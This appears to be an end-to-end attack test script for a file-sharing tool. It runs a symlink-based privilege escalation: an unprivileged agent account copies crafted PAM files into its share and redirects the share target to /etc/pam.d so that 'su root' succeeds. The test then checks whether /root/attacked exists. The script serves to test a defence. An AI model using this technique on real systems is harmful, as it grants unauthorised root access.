#!/bin/sh
# The agent becomes root in the next run: a symlink at the target of its own share
. /opt/e2e/attacks-original/common
must as alice mkdir -p src/proj
must share_rw /home/alice/src/proj
su_for_all /opt/pam
must run_as_agent cp -r /opt/pam/. /home/agent/src/proj/
must run_as_agent sh -c 'cd; mv src was; mkdir src; ln -s /etc/pam.d src/proj'
run_as_agent su root -c 'touch /root/attacked'
succeeded test -e /root/attacked
